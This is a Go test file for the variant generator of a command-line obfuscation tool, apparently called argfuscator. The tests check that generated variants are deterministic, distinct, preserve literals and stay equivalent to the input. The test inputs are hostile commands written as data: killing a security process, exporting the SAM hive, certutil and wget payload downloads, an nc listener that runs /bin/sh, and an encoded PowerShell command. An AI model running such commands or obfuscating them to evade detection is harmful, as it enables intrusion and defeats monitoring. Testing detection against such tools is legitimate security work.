package composer

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ticofookfook/argfuscator/internal/cmdline"
	"github.com/ticofookfook/argfuscator/internal/config"
	"github.com/ticofookfook/argfuscator/internal/diag"
	"github.com/ticofookfook/argfuscator/internal/equiv"
	"github.com/ticofookfook/argfuscator/internal/parser"
	"github.com/ticofookfook/argfuscator/internal/profile"
	"github.com/ticofookfook/argfuscator/internal/selector"
	"github.com/ticofookfook/argfuscator/internal/technique"
)

func init() {
	config.Testing = true
}

var profiles = profile.NewSet(profile.Builtin())

type fixture struct {
	env *technique.Env
	cmd *cmdline.Command
	sel *selector.Selection
}

func setup(t *testing.T, line string, p cmdline.Platform, techniques ...string) fixture {
	t.Helper()
	cmd, err := parser.Parse(line, parser.Options{
		Platform: p,
		Profiles: profiles,
		Literals: parser.LiteralPolicy{Heuristic: true},
	})
	require.NoError(t, err)
	env := technique.NewEnv(p, profiles.Resolve(cmd.Executable().Raw, p))
	sel, err := selector.Select(technique.NewCatalogue(), env, cmd, techniques)
	require.NoError(t, err)
	return fixture{env: env, cmd: cmd, sel: sel}
}

func texts(res *Result) []string {
	out := make([]string, len(res.Variants))
	for i, v := range res.Variants {
		out[i] = v.Text
	}
	return out
}

func TestGeneratePrefixSubstitution(t *testing.T) {
	f := setup(t, "taskkill /f /im security_process.exe", cmdline.PlatformWindows, "OptionPrefixSubstitution")
	res := Generate(f.env, f.cmd, f.sel, Options{Count: 1, Seed: 7, MaxRetries: DefaultMaxRetries})

	require.Len(t, res.Variants, 1)
	v := res.Variants[0]
	assert.Equal(t, "taskkill -f -im security_process.exe", v.Text)
	assert.Equal(t, []Step{
		{TechniqueID: "OptionPrefixSubstitution", TokenIndex: 1},
		{TechniqueID: "OptionPrefixSubstitution", TokenIndex: 2},
	}, v.Trace)
	assert.Equal(t, []string{"OptionPrefixSubstitution"}, v.TechniqueIDs())
	assert.Empty(t, res.Warnings)
	assert.Equal(t, "taskkill /f /im security_process.exe", f.cmd.String(), "input command is never modified")
}

func TestGenerateDeterministic(t *testing.T) {
	f := setup(t, "taskkill /f /im security_process.exe", cmdline.PlatformWindows)
	a := Generate(f.env, f.cmd, f.sel, Options{Count: 10, Seed: 42, MaxRetries: DefaultMaxRetries})
	b := Generate(f.env, f.cmd, f.sel, Options{Count: 10, Seed: 42, MaxRetries: DefaultMaxRetries})
	c := Generate(f.env, f.cmd, f.sel, Options{Count: 10, Seed: 43, MaxRetries: DefaultMaxRetries})

	assert.Equal(t, a.Variants, b.Variants)
	assert.NotEqual(t, texts(a), texts(c))
	assert.Equal(t, int64(42), a.Seed)
}

func TestGenerateDistinct(t *testing.T) {
	f := setup(t, "taskkill /f /im security_process.exe", cmdline.PlatformWindows)
	res := Generate(f.env, f.cmd, f.sel, Options{Count: 50, Seed: 1, MaxRetries: DefaultMaxRetries})

	require.Len(t, res.Variants, 50)
	seen := make(map[string]bool)
	for i, v := range res.Variants {
		assert.Equal(t, i, v.Index)
		assert.False(t, seen[v.Text], "duplicate variant %q", v.Text)
		seen[v.Text] = true
	}
}

func TestGenerateExhaustsSmallSpace(t *testing.T) {
	f := setup(t, "taskkill /f", cmdline.PlatformWindows, "OptionPrefixSubstitution")
	res := Generate(f.env, f.cmd, f.sel, Options{Count: 5, Seed: 3, MaxRetries: 8})

	assert.Equal(t, []string{"taskkill -f"}, texts(res))
	require.Len(t, res.Warnings, 1)
	assert.Equal(t, diag.InsufficientVariants, res.Warnings[0].Code)
}

func TestGenerateNothingApplicable(t *testing.T) {
	f := setup(t, "x", cmdline.PlatformPosix, "PathTraversal")
	require.True(t, f.sel.Empty())

	res := Generate(f.env, f.cmd, f.sel, Options{Count: 3, Seed: 3, MaxRetries: 4})
	assert.Equal(t, []string{"x"}, texts(res), "the unmodified command appears at most once")
	assert.Empty(t, res.Variants[0].Trace)
	assert.True(t, diag.Has(res.Warnings, diag.InsufficientVariants))
}

func TestGenerateAcceptRejects(t *testing.T) {
	f := setup(t, "taskkill /f /im security_process.exe", cmdline.PlatformWindows)
	calls := 0
	res := Generate(f.env, f.cmd, f.sel, Options{
		Count:      5,
		Seed:       9,
		MaxRetries: 10,
		Accept: func(string) bool {
			calls++
			return false
		},
	})
	assert.Empty(t, res.Variants)
	assert.LessOrEqual(t, calls, 11)
	assert.True(t, diag.Has(res.Warnings, diag.InsufficientVariants))
}

func TestGeneratePreservesLiterals(t *testing.T) {
	payload := "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
	f := setup(t, "powershell -nop -enc "+payload, cmdline.PlatformWindows)
	res := Generate(f.env, f.cmd, f.sel, Options{Count: 20, Seed: 5, MaxRetries: DefaultMaxRetries})

	require.NotEmpty(t, res.Variants)
	for _, v := range res.Variants {
		assert.True(t, strings.HasSuffix(v.Text, " "+payload), v.Text)
		for _, s := range v.Trace {
			assert.NotEqual(t, 3, s.TokenIndex, "literal token was transformed by %s", s.TechniqueID)
		}
	}
}

func TestGenerateTrace(t *testing.T) {
	f := setup(t, "curl -s -L -o /tmp/out.html https://example.com/index.html", cmdline.PlatformPosix)
	cat := technique.NewCatalogue()
	res := Generate(f.env, f.cmd, f.sel, Options{Count: 30, Seed: 11, MaxRetries: DefaultMaxRetries})

	structural := 0
	for _, v := range res.Variants {
		last := map[int]int{}
		for _, s := range v.Trace {
			tech, ok := cat.Lookup(s.TechniqueID)
			require.True(t, ok)
			if s.TokenIndex == -1 {
				assert.True(t, tech.Structural())
				structural++
				continue
			}
			assert.Less(t, s.TokenIndex, len(f.cmd.Tokens))
			if prev, ok := last[s.TokenIndex]; ok {
				assert.Greater(t, cat.Order(s.TechniqueID), prev, "techniques apply in registration order")
			}
			last[s.TokenIndex] = cat.Order(s.TechniqueID)
		}
	}
	assert.Positive(t, structural)
}

// Composing techniques keeps every variant equivalent to its input.
func TestGenerateEquivalence(t *testing.T) {
	lines := []struct {
		line     string
		platform cmdline.Platform
	}{
		{"taskkill /f /im security_process.exe", cmdline.PlatformWindows},
		{`reg export HKLM\SAM out.reg /reg:64`, cmdline.PlatformWindows},
		{`certutil -urlcache -split -f http://example.com/payload.txt C:\Users\Public\payload.txt`, cmdline.PlatformWindows},
		{"ping -n 1 10.0.0.1", cmdline.PlatformWindows},
		{"curl -s -L -o /tmp/out.html https://example.com/index.html", cmdline.PlatformPosix},
		{"nc -l -v -p 4444 -e /bin/sh", cmdline.PlatformPosix},
		{"wget --output-document=/tmp/a.sh http://10.0.0.1/a.sh", cmdline.PlatformPosix},
		{"ssh -N -f -i /root/.ssh/id_rsa user@192.168.1.5", cmdline.PlatformPosix},
		{`curl -H "Accept: text/html" -o out/page.html http://example.com/`, cmdline.PlatformPosix},
		{`reg add HKLM\Software\X /v InstallDir /d C:\tools\bin /f`, cmdline.PlatformWindows},
	}
	for _, l := range lines {
		t.Run(l.line, func(t *testing.T) {
			f := setup(t, l.line, l.platform)
			model := equiv.NewModel(l.platform, nil, profiles, technique.DefaultTables())
			res := Generate(f.env, f.cmd, f.sel, Options{Count: 40, Seed: 2024, MaxRetries: DefaultMaxRetries})
			require.NotEmpty(t, res.Variants)
			for _, v := range res.Variants {
				ok, err := model.Equivalent(l.line, v.Text)
				require.NoError(t, err, v.Text)
				assert.True(t, ok, "%q is not equivalent to %q", v.Text, l.line)
			}
		})
	}
}

func TestNewSeed(t *testing.T) {
	assert.GreaterOrEqual(t, NewSeed(), int64(0))
}
